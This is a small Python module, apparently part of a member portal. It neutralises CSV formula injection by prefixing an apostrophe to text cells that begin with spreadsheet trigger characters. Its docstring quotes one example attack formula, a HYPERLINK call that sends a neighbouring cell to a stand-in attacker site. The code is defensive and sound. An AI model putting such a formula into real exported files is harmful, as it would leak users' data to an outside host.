"""Cells for spreadsheets that people open in Excel, LibreOffice or Google Sheets.

A CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or
line feed, which spreadsheet programs skip before looking) is run as a formula when the
file is opened: a member named ``=HYPERLINK("http://evil.example/?"&A1,"klik")`` would
send the row next to it to another site. Every CSV the portal writes passes its text
cells through ``csv_cell`` (OWASP's advice: prefix an apostrophe, so the cell is shown
as text). XLSX cells carry a type instead: they are written as strings (``data_type``
``"s"``), never as formulas, and need no prefix.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value):
    """``value`` as a CSV cell that no spreadsheet program runs; non-text values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
